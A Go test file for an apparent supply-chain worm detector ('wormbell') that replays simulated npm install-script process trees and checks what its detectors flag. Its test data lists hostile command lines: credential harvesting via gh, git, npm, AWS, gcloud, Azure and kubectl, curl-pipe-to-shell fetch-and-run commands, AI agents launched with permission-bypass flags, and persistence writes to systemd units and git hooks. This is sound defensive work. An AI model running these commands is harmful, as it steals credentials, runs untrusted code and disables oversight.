package detect_test

import (
	"strings"
	"testing"
	"time"

	"wormbell"
	"wormbell/agent/detect"
	"wormbell/internal/scene"
)

// commandOf returns what worm-command makes of a command line below the script
// of a dependency: the tool, "" for nothing.
func commandOf(t *testing.T, line string) string {
	t.Helper()
	s, err := scene.Parse([]byte(`
-- processes --
12 [deb:bash] cwd=~ tty=pts/0 leader /bin/bash
20 < 12 [deb:npm] cwd=~/app /usr/bin/node /usr/bin/npm install
21 < 20 [deb:dash] pkg=evil@1.0.0:postinstall cwd=~/app/node_modules/evil /bin/sh -c "node x.js"
22 < 21 [] /usr/bin/node x.js
23 < 22 ` + line + `
-- events --
1s process.start 23
`))
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	found := scene.Replay(s.Events, engine(detect.ByID("worm-command")).Observe)
	if len(found) > 1 {
		t.Errorf("%s: %d findings", line, len(found))
	}
	for _, f := range found {
		return f.Subject
	}
	return ""
}

func TestWormCommands(t *testing.T) {
	const fetched, runtime, ai = "a script run as it was fetched (curl | sh)", "a JavaScript runtime that was fetched", "an AI agent with its guard off"
	for line, want := range map[string]string{
		`[] /tmp/trufflehog filesystem ~`:                                                                         "trufflehog",
		`[] /tmp/th git file:///x --only-verified`:                                                                "",
		`[] ~/.truffler-cache/trufflehog_3.90 git https://example.com/x`:                                          "trufflehog",
		`[] /tmp/x filesystem ~ --results verified`:                                                               "trufflehog",
		`[] /tmp/x filesystem ~`:                                                                                  "",
		`[deb:btrfs] /usr/bin/btrfs filesystem usage / --json`:                                                    "",
		`[deb:docker] /usr/bin/docker run --rm trufflesecurity/trufflehog:latest`:                                 "trufflehog",
		`[deb:gh] /usr/bin/gh auth token --hostname example.com`:                                                  "gh auth token",
		`[deb:gh] /usr/bin/gh auth status -t`:                                                                     "gh auth token",
		`[deb:gh] /usr/bin/gh auth status`:                                                                        "",
		`[] /tmp/x auth token`:                                                                                    "gh auth token",
		`[] ~/app/node_modules/evil/x run auth token`:                                                             "",
		`[deb:dash] /bin/sh -c "T=$(gh auth token) node y.js"`:                                                    "gh auth token",
		`[deb:dash] /bin/sh -c "which gh"`:                                                                        "",
		`[deb:dash] /bin/sh -c "echo 'gh auth token'"`:                                                            "",
		`[deb:bash] /bin/bash -lc "true && gh auth token"`:                                                        "gh auth token",
		`[deb:coreutils] /usr/bin/env -i HOME=/x gh auth token`:                                                   "gh auth token",
		`[deb:busybox] /bin/busybox sh -c "gh auth token"`:                                                        "gh auth token",
		`[deb:git] /usr/bin/git credential fill`:                                                                  "git credential",
		`[deb:git] /usr/bin/git -C /x -c credential.helper=store credential fill`:                                 "git credential",
		`[deb:git] /usr/bin/git credential-osxkeychain get`:                                                       "git credential",
		`[deb:git] /usr/bin/git config credential.helper`:                                                         "",
		`[deb:git] /usr/lib/git-core/git-credential-libsecret get`:                                                "git credential",
		`[deb:git] /usr/lib/git-core/git-credential-libsecret store`:                                              "",
		`[deb:npm] /usr/bin/node /usr/bin/npm token create`:                                                       "npm token",
		`[deb:npm] /usr/bin/node /usr/bin/npm run token`:                                                          "",
		`[deb:npm] /usr/bin/node /usr/bin/npm view token`:                                                         "",
		`[deb:npm] /usr/bin/node /usr/bin/npm get //r.example.com/:_authToken`:                                    "npm config get _authToken",
		`[deb:npm] /usr/bin/node /usr/bin/npm config get registry`:                                                "",
		`[deb:npm] /usr/bin/node /usr/bin/npm whoami`:                                                             "",
		`[deb:pnpm] /usr/bin/pnpm config get //r.example.com/:_authToken`:                                         "npm config get _authToken",
		`[root] /usr/lib/node_modules/pnpm/pn config get //r.example.com/:_authToken`:                             "npm config get _authToken",
		`[deb:yarn] /usr/bin/node /usr/bin/yarn config get npmAuthToken`:                                          "npm config get _authToken",
		`[root] /usr/bin/wormbell exec -- npm run x`:                                                              "wormbell exec",
		`[root] /usr/bin/wormbell vault list`:                                                                     "wormbell vault",
		`[root] /usr/bin/wormbell status`:                                                                         "",
		`[deb:awscli] /usr/bin/python3 /usr/bin/aws configure get aws_secret_access_key`:                          "aws credentials",
		`[deb:awscli] /usr/bin/python3 /usr/bin/aws configure get region`:                                         "",
		`[deb:awscli] /usr/bin/python3 /usr/bin/aws --profile x secretsmanager get-secret-value --secret-id y`:    "aws secrets",
		`[deb:google-cloud-cli] /usr/bin/python3 /usr/lib/google-cloud-sdk/lib/gcloud.py auth print-access-token`: "gcloud token",
		`[deb:azure-cli] /bin/sh /usr/bin/az account get-access-token --output json`:                              "az token",
		`[deb:azure-cli] /usr/bin/python3 -sm azure.cli account get-access-token`:                                 "az token",
		`[deb:kubectl] /usr/bin/kubectl config view --raw`:                                                        "kubectl config view",
		`[deb:kubectl] /usr/bin/kubectl config view`:                                                              "",
		`[] ~/.local/bin/claude --permission-mode bypassPermissions -p x`:                                         ai,
		`[] ~/.local/bin/claude --permission-mode=bypassPermissions -p x`:                                         ai,
		`[] ~/.local/bin/claude --permission-mode plan -p x`:                                                      "",
		`[] ~/.local/bin/claude --version`:                                                                        "",
		`[deb:nodejs] /usr/bin/node /usr/bin/gemini -y -p x`:                                                      ai,
		`[deb:coreutils] /usr/bin/yes -y`:                                                                         "",
		`[] ~/.local/bin/q chat --trust-all-tools --no-interactive x`:                                             ai,
		`[] ~/.local/bin/renamed --yolo -p x`:                                                                     ai,
		`[deb:dash] /bin/sh -c "claude --dangerously-skip-permissions -p 'find it'"`:                              ai,
		`[deb:dash] /bin/sh -c "curl -s https://example.com/x | base64 -d | sudo bash"`:                           fetched,
		`[deb:dash] /bin/sh -c "bash <(curl -s https://example.com/x)"`:                                           fetched,
		`[deb:dash] /bin/sh -c "eval \"$(curl -s https://example.com/x)\""`:                                       fetched,
		`[deb:dash] /bin/sh -c "wget -qO- https://example.com/x | python3 -"`:                                     fetched,
		`[deb:dash] /bin/sh -c "curl https://example.com/x | tar xz && sh install.sh"`:                            "",
		`[deb:dash] /bin/sh -c "curl https://example.com/x | node parse.js"`:                                      "",
		`[deb:dash] /bin/sh -c "curl https://example.com/x | python3 -c 'import json'"`:                           "",
		`[deb:dash] /bin/sh -c "curl https://example.com/x -o y; cat y | sh"`:                                     "",
		`[] C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe -c "irm bun.sh/install.ps1|iex"`:            fetched,
		`[] /tmp/b-1/bun run x.js`:                                                                                runtime,
		`[] ~/app/node_modules/evil/bun x.js`:                                                                     runtime,
		`[] ~/app/node_modules/bun/bin/bun.exe x.js`:                                                              "",
		`[] ~/.bun/bin/bun install`:                                                                               "",
		`[] ~/tools/bun/bin/bun x.js`:                                                                             "",
		`[] ~/bun-dl-1/bun x.js`:                                                                                  runtime,
		`[deb:bun] /usr/bin/bun x.js`:                                                                             "",
		`[] /tmp/xfs-1/node x.js`:                                                                                 runtime,
		`[] /dev/shm/.x run x.mjs`:                                                                                runtime,
		`[] /dev/shm/.x --version`:                                                                                "",
		`[deb:gcc] /usr/bin/gcc x.c`:                                                                              "",
		`[] ~/.cache/node-gyp/22.0.0/x y.c`:                                                                       "",
		`[deb:python3] /usr/bin/python3 /usr/share/node-gyp/gyp/gyp_main.py binding.gyp -f make`:                  "",
		`[deb:dash] /bin/sh -c "node-gyp rebuild || (echo no compiler; exit 1)"`:                                  "",
		`[deb:dash] /bin/sh -c "husky install 2>/dev/null || true"`:                                               "",
		`[deb:npm] /usr/bin/node /usr/bin/npm install --omit=dev`:                                                 "",
		`[deb:dash] /bin/sh -c ":"`:                                                                               "",
	} {
		if got := commandOf(t, line); got != want {
			t.Errorf("%s: found %q, want %q", line, got, want)
		}
	}
}

// TestCommandsOfOwnScripts: who is told of what, where no dependency is above.
func TestCommandsOfOwnScripts(t *testing.T) {
	s, err := scene.Parse([]byte(`
-- processes --
1 [deb:systemd] cwd=/ uid=0 /usr/lib/systemd/systemd
12 < 1 [deb:bash] cwd=~ tty=pts/0 leader /bin/bash
20 < 12 [] cwd=~/app /usr/bin/node app.js
21 < 20 [deb:gh] /usr/bin/gh auth token
22 < 20 [deb:awscli] /usr/bin/python3 /usr/bin/aws configure export-credentials
23 < 20 [deb:dash] /bin/sh -c "curl https://example.com/x | bash"
30 < 1 [] cwd=~/app /usr/bin/node app.js
31 < 30 [deb:gh] /usr/bin/gh auth token
32 < 30 [deb:awscli] /usr/bin/python3 /usr/bin/aws configure export-credentials
50 < 12 [deb:npm] cwd=~/app /usr/bin/node /usr/bin/npx tool
51 < 50 [] pkg=tool@1.0.0:npx /usr/bin/node ~/.npm/_npx/1/node_modules/.bin/tool
52 < 51 [deb:gh] /usr/bin/gh auth token
53 < 51 [deb:awscli] /usr/bin/python3 /usr/bin/aws configure export-credentials
54 < 1 [deb:cron] cwd=/ /usr/sbin/cron
55 < 54 [deb:npm] cwd=~/app /usr/bin/node /usr/bin/npx tool
56 < 55 [] pkg=tool@1.0.0:npx /usr/bin/node ~/.npm/_npx/1/node_modules/.bin/tool
57 < 56 [deb:gh] /usr/bin/gh auth token
58 < 30 [deb:npm] cwd=~/app /usr/bin/node /usr/bin/npx tool
59 < 58 [] pkg=tool@1.0.0:npx /usr/bin/node ~/.npm/_npx/1/node_modules/.bin/tool
590 < 59 [deb:gh] /usr/bin/gh auth token
60 < 12 [] cwd=~/app /usr/bin/node thief.js
61 < 60 [deb:awscli] /usr/bin/python3 /usr/bin/aws configure export-credentials
-- events --
0s process.start 21
1s process.start 22
2s process.start 23
3s process.start 31
4s process.start 32
6s process.start 52
7s process.start 53
7100ms process.start 57
7200ms process.start 590
8s process.start 61
9s file.read 60 ~/.npmrc
10s process.start 61
-- findings --
`))
	if err != nil {
		t.Fatal(err)
	}
	en := engine(detect.ByID("worm-command"), detect.ByID("credential-read"))
	var got []string
	for _, e := range s.Events {
		for _, f := range en.Observe(e) {
			if f.Detector == "worm-command" {
				got = append(got, e.Time.Sub(scene.Begin).String()+" "+f.Severity.String()+" "+f.Subject)
			}
		}
	}
	want := "0s low gh auth token, 3s high gh auth token, 6s low gh auth token, 7.1s low gh auth token, 7.2s high gh auth token, 10s high aws credentials"
	if strings.Join(got, ", ") != want {
		t.Errorf("got %s\nwant %s", strings.Join(got, ", "), want)
	}
}

// TestShim: our own program in front of npm runs below install scripts that run
// npm, which is no theft; started by anybody else it is one.
func TestShim(t *testing.T) {
	pkg := &wormbell.Package{Name: "evil", Version: "1.0.0"}
	sh := &wormbell.Process{PID: 2, Exe: "/bin/sh", Args: []string{"sh", "-c", "npm run x"}, Signer: "deb:dash", Package: pkg, Lifecycle: "postinstall"}
	p := wormbell.Process{PID: 3, Exe: "/usr/bin/wormbell", Args: []string{"wormbell", "exec", "--", "npm", "run", "x"}, Signer: "root", Package: pkg, Parent: sh}
	for replaced, want := range map[string]int{"/home/me/.local/share/wormbell/shims/npm": 0, "": 1, "/home/me/x.py": 1} {
		p.Replaced = replaced
		if found := engine(detect.ByID("worm-command")).Observe(wormbell.Event{Kind: wormbell.ProcessStart, Time: scene.Begin, Process: &p}); len(found) != want {
			t.Errorf("was %q before: %d findings, want %d", replaced, len(found), want)
		}
	}
}

// TestSettlesAfterTheft: what a program sets up that was no install script counts
// once it has raised an alert.
func TestSettlesAfterTheft(t *testing.T) {
	s, err := scene.Parse([]byte(`
-- processes --
12 [deb:bash] cwd=~ tty=pts/0 leader /bin/bash
20 < 12 [] cwd=~/app /usr/bin/node app.js
21 < 20 [] /usr/bin/node settle.js
-- events --
0s file.write 21 ~/.config/systemd/user/x.service
1s file.write 21 ~/app/.git/hooks/pre-commit
2s file.read 20 ~/.npmrc
3s file.write 21 ~/.config/systemd/user/x.service
4s file.write 21 ~/app/.git/hooks/pre-commit
`))
	if err != nil {
		t.Fatal(err)
	}
	en := engine(detect.ByID("persistence-by-install-script"), detect.ByID("credential-read"))
	var got []string
	for _, e := range s.Events {
		for _, f := range en.Observe(e) {
			got = append(got, f.Severity.String()+" "+f.Subject)
		}
	}
	want := "high ~/.npmrc, high ~/.config/systemd/user/x.service, low ~/app/.git/hooks/pre-commit"
	if strings.Join(got, ", ") != want {
		t.Errorf("got %s\nwant %s", strings.Join(got, ", "), want)
	}
}

// BenchmarkWormCommand is what a start costs of which nothing is to be told,
// below a dependency's script, where all is looked at.
func BenchmarkWormCommand(b *testing.B) {
	npm := &wormbell.Process{PID: 2, Exe: "/usr/bin/node", Script: "/usr/bin/npm", Args: []string{"node", "/usr/bin/npm", "install"}, Signer: "deb:npm"}
	sh := &wormbell.Process{PID: 3, Exe: "/bin/sh", Args: []string{"sh", "-c", "node-gyp rebuild || (echo no compiler; exit 1)"}, Signer: "deb:dash", Parent: npm,
		Package: &wormbell.Package{Name: "calm"}, Lifecycle: "install"}
	cc := &wormbell.Process{PID: 4, Exe: "/usr/bin/g++", Args: strings.Fields("g++ -o x.o x.cc -I/usr/include/node -O2 -fno-rtti -MMD -c"), Signer: "deb:g++", Parent: sh, Package: sh.Package}
	en := engine(detect.ByID("worm-command"))
	for b.Loop() {
		en.Observe(wormbell.Event{Kind: wormbell.ProcessStart, Time: time.Unix(1, 0), Process: sh})
		en.Observe(wormbell.Event{Kind: wormbell.ProcessStart, Time: time.Unix(1, 0), Process: cc})
	}
}

// FuzzCommands: command lines are an attacker's to write.
func FuzzCommands(f *testing.F) {
	f.Add("/bin/sh", "-c\x00curl x | sh")
	f.Add("/usr/bin/python3", "-m\x00azure.cli\x00account")
	f.Add("/usr/bin/git", "-c\x00config\x00--global\x00core.hooksPath")
	f.Add("/bin/busybox", "sh\x00-c")
	f.Fuzz(func(t *testing.T, exe, args string) {
		npm := &wormbell.Process{PID: 2, Exe: "/usr/bin/node", Script: "/usr/bin/npm", Args: []string{"node", "/usr/bin/npm", "install"}, Signer: "deb:npm"}
		p := &wormbell.Process{PID: 3, Exe: exe, Args: strings.Split(args, "\x00"), Parent: npm, Package: &wormbell.Package{Name: "x"}, Lifecycle: "install"}
		en := engine(detect.ByID("worm-command"), detect.ByID("persistence-by-install-script"))
		en.Observe(wormbell.Event{Kind: wormbell.ProcessStart, Time: scene.Begin, Process: p})
		en.Observe(wormbell.Event{Kind: wormbell.ShellCommand, Time: scene.Begin, Process: p, Line: args})
		en.Observe(wormbell.Event{Kind: wormbell.FileWrite, Time: scene.Begin, Process: p, Path: args})
		if problems := en.Problems(); len(problems) > 0 {
			t.Error(problems)
		}
	})
}
